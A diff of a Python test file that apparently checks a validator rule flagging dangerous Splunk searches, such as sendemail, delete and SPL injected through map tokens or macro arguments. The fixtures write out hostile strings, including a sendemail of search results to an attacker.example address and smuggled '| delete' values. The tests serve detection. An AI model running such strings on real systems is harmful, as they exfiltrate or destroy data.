@@ -22,6 +22,20 @@ def _cp085(pack: Path, validate: Validate) -> list[Diagnostic]:
     return [d for d in validate(pack).diagnostics if d.rule == "CP085"]
 
 
+# A map token's value the search writes (how it does, to fill in)
+_WRITTEN = ("map search in detection 'Entra ID User Declined Consent For OAuth App' uses $next$, whose value the "
+            "search writes itself ({}): map writes the value into its search text and runs it, so a '|' in it starts "
+            "a command of the search's choosing (sendemail, delete...), which no rule reads; write that text in the "
+            "map search itself")
+
+
+def _one_at_next(pack: Path, validate: Validate) -> Diagnostic:
+    """The one CP085 finding, which must stand at the TTP search's ``$next$``."""
+    found = _cp085(pack, validate)
+    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "$next$"))]
+    return found[0]
+
+
 def test_sendemail_at_the_end_of_a_search_is_an_error_at_the_command(pack: Path, validate: Validate) -> None:
     add_command(pack, 'sendemail to="drop@attacker.example" sendresults=true')
     result = validate(pack)
@@ -90,9 +104,7 @@ def test_a_map_token_where_a_command_goes_is_an_error_at_the_token(pack: Path, v
                                                                     map_search: str) -> None:
     """Whatever the field's value, it names the command map runs: an event field's as much as an eval's."""
     add_command(pack, f'map maxsearches=1 search="{map_search}"')
-    found = _cp085(pack, validate)
-    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "$next$"))]
-    assert found[0].message == (
+    assert _one_at_next(pack, validate).message == (
         "'$next$' in detection 'Entra ID User Declined Consent For OAuth App' stands where map's search names a "
         "command: map writes each result's value of next there and runs it, so the value chooses the command "
         "(sendemail, delete...) and no rule can read it; write the command in the search string")
@@ -117,13 +129,8 @@ def test_a_map_token_the_search_writes_is_an_error_at_the_token(pack: Path, vali
                                                                  map_search: str) -> None:
     """``eval next="x | sendemail ..." | map search="... $next$"``: CP085 read only the search's own commands."""
     add_command(pack, f'{before} | map maxsearches=1 search="{map_search}"')
-    found = _cp085(pack, validate)
-    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "$next$"))]
-    assert found[0].message == (
-        "map search in detection 'Entra ID User Declined Consent For OAuth App' uses $next$, whose value the search "
-        "writes itself (a string of its own before the map, which can hold SPL): map writes the value into its "
-        "search text and runs it, so a '|' in it starts a command of the search's choosing (sendemail, delete...), "
-        "which no rule reads; write that text in the map search itself")
+    assert _one_at_next(pack, validate).message == _WRITTEN.format(
+        "a string of its own before the map, which can hold SPL")
 
 
 @pytest.mark.parametrize("command", ['strcat "x | delete" user next', 'foreach next [eval <<FIELD>>="| x"]'])
@@ -131,10 +138,8 @@ def test_a_map_token_a_command_the_validator_cannot_read_writes_is_an_error(pack
                                                                              command: str) -> None:
     """Valid SPL the engine does not read, holding a string that can be SPL, may write it into the field."""
     add_command(pack, f'{command} | map maxsearches=1 search="search user=$next$"')
-    found = _cp085(pack, validate)
-    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "$next$"))]
-    assert f"whose value the search writes itself (or may: '{command}' sets it, a command the validator cannot " \
-           "read)" in found[0].message
+    assert _one_at_next(pack, validate).message == _WRITTEN.format(
+        f"or may: '{command}' sets it, a command the validator cannot read")
 
 
 @pytest.mark.parametrize("before", [
@@ -154,15 +159,6 @@ def test_a_map_token_on_a_value_the_search_does_not_write_passes(pack: Path, val
     assert _cp085(pack, validate) == []
 
 
-def test_a_macro_argument_where_a_map_command_goes_is_judged_at_the_call(pack: Path, validate: Validate) -> None:
-    """In a definition, ``$next$`` is the call's argument, not a result's value: the expansion is read instead."""
-    define_macro(pack, "entra_id_each", 'map maxsearches=1 search="| makeresults | $next$"', ("next",))
-    add_command(pack, "`entra_id_each(fields user)` | `entra_id_each(sendemail to=x@attacker.example)`")
-    found = _cp085(pack, validate)
-    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "`entra_id_each(sendemail"))]
-    assert found[0].message.startswith("'sendemail' in detection ")
-
-
 def test_a_drilldown_is_judged_too(pack: Path, validate: Validate) -> None:
     edit(pack, TTP, 'search  user = "$user$"', 'search  user = "$user$" | sendemail to="$user$"')
     found = _cp085(pack, validate)
@@ -178,8 +174,13 @@ def test_a_macro_writing_one_is_reported_once_in_its_own_file(pack: Path, valida
     assert found[0].message.startswith("'outputlookup' in macro 'entra_id_tidy' writes the results to a lookup")
 
 
-def test_an_argument_bringing_one_is_reported_at_the_call(pack: Path, validate: Validate) -> None:
-    define_macro(pack, "entra_id_then", "fields * | $next$", ("next",))
+@pytest.mark.parametrize("definition", [
+    "fields * | $next$",
+    # in a definition, $next$ where map's command goes is the call's argument, not a result's value
+    'map maxsearches=1 search="| makeresults | $next$"',
+])
+def test_an_argument_bringing_one_is_reported_at_the_call(pack: Path, validate: Validate, definition: str) -> None:
+    define_macro(pack, "entra_id_then", definition, ("next",))
     add_command(pack, "`entra_id_then(delete)`")
     found = _cp085(pack, validate)
     assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "`entra_id_then"))]
